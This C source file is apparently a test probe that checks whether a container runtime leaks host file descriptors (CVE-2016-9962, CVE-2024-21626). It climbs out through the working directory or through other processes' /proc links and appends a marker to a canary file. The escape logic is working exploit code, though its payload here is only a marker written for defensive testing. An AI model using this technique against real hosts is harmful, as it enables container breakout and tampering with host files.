/* SPDX-License-Identifier: Apache-2.0 */
/*
 * attack_fds: runtime file descriptors that reach the container (CVE-2016-9962,
 * CVE-2024-21626), tried from inside it.
 *
 *   attack_fds cwd CANARY
 *       Run with a cwd the runtime chose (process.cwd = /proc/self/fd/N). When the cwd is
 *       not below our root (getcwd(2) says "(unreachable)"), climb with ".." to the real
 *       root and append a marker to CANARY (an absolute host path).
 *   attack_fds race CANARY SECONDS [STOPFILE]
 *       For SECONDS (or until STOPFILE exists), scan every other process of the
 *       container and open its fds, cwd, root and exe through /proc/PID/...; every
 *       directory obtained is climbed with ".." and CANARY is tried from there. Meant
 *       to catch a runtime `exec` process that is still dumpable (or otherwise
 *       reachable) while it holds host fds.
 *
 * Output, key=value lines: cwd=, unreachable=0|1, tried=, grabbed=, foreign_dirs=,
 * escaped=0|1, escaped_via=, done=1.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define MARKER "\nWARD-ATTACK-FDS-MARKER\n"

static struct stat root_st;

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/*
 * From directory fd `dir`, climbs to the top with ".." (64 steps stop at any root) and
 * tries to append to `canary` (absolute path) from there. Returns 1 when it wrote.
 */
static int try_escape(int dir, const char *canary)
{
	char up[64 * 3 + 1] = "";
	for (int i = 0; i < 64; i++)
		strcat(up, "../");
	int top = openat(dir, up, O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (top < 0)
		return 0;
	struct stat st;
	int wrote = 0;
	/* our own root: the canary cannot be there, nothing to try */
	if (fstat(top, &st) == 0 && !(st.st_dev == root_st.st_dev && st.st_ino == root_st.st_ino)) {
		int fd = openat(top, canary + strspn(canary, "/"), O_WRONLY | O_APPEND | O_CLOEXEC);
		if (fd >= 0) {
			wrote = write(fd, MARKER, sizeof(MARKER) - 1) > 0;
			close(fd);
		}
	}
	close(top);
	return wrote;
}

static int do_cwd(const char *canary)
{
	char buf[PATH_MAX];
	long r = syscall(SYS_getcwd, buf, sizeof(buf));
	if (r < 0)
		snprintf(buf, sizeof(buf), "error:%s", strerrorname_np(errno));
	printf("cwd=%s\n", buf);
	/* the kernel prefixes a cwd that is not below our root with "(unreachable)" */
	int unreachable = r >= 0 && buf[0] != '/';
	printf("unreachable=%d\n", unreachable);
	int escaped = try_escape(AT_FDCWD, canary);
	printf("escaped=%d\n", escaped);
	if (escaped)
		printf("escaped_via=cwd\n");
	printf("done=1\n");
	return 0;
}

struct race_stats {
	long tried, grabbed, foreign_dirs;
	int escaped;
	char via[128];
};

/* One magic link of another process: open it, and climb out if it is a directory. */
static void try_link(const char *path, const char *canary, struct race_stats *s)
{
	s->tried++;
	int fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	s->grabbed++;
	struct stat st;
	if (fstat(fd, &st) == 0 && S_ISDIR(st.st_mode)) {
		s->foreign_dirs++;
		if (try_escape(fd, canary) && !s->escaped) {
			s->escaped = 1;
			snprintf(s->via, sizeof(s->via), "%s", path);
		}
	}
	close(fd);
}

static void scan_pid(int pid, const char *canary, struct race_stats *s)
{
	char p[64];
	static const char *const links[] = {"cwd", "root", "exe"};
	for (size_t i = 0; i < sizeof(links) / sizeof(links[0]); i++) {
		snprintf(p, sizeof(p), "/proc/%d/%s", pid, links[i]);
		try_link(p, canary, s);
	}
	snprintf(p, sizeof(p), "/proc/%d/fd", pid);
	DIR *d = opendir(p);
	if (!d)
		return;
	struct dirent *de;
	while ((de = readdir(d))) {
		if (de->d_name[0] == '.')
			continue;
		char fp[300];
		snprintf(fp, sizeof(fp), "/proc/%d/fd/%s", pid, de->d_name);
		try_link(fp, canary, s);
	}
	closedir(d);
}

static int do_race(const char *canary, int seconds, const char *stopfile)
{
	struct race_stats s = {0};
	double end = now() + seconds;
	printf("ready=1\n");
	fflush(stdout);
	while (now() < end && !(stopfile && access(stopfile, F_OK) == 0)) {
		DIR *d = opendir("/proc");
		if (!d)
			break;
		struct dirent *de;
		while ((de = readdir(d))) {
			int pid = atoi(de->d_name);
			if (pid > 0 && pid != getpid())
				scan_pid(pid, canary, &s);
		}
		closedir(d);
	}
	printf("tried=%ld\ngrabbed=%ld\nforeign_dirs=%ld\nescaped=%d\n", s.tried, s.grabbed,
	       s.foreign_dirs, s.escaped);
	if (s.escaped)
		printf("escaped_via=%s\n", s.via);
	printf("done=1\n");
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (stat("/", &root_st) < 0) {
		perror("stat /");
		return 1;
	}
	if (argc >= 3 && strcmp(argv[1], "cwd") == 0)
		return do_cwd(argv[2]);
	if (argc >= 4 && strcmp(argv[1], "race") == 0)
		return do_race(argv[2], atoi(argv[3]), argc > 4 ? argv[4] : NULL);
	fprintf(stderr, "usage: attack_fds cwd CANARY | race CANARY SECONDS [STOPFILE]\n");
	return 2;
}
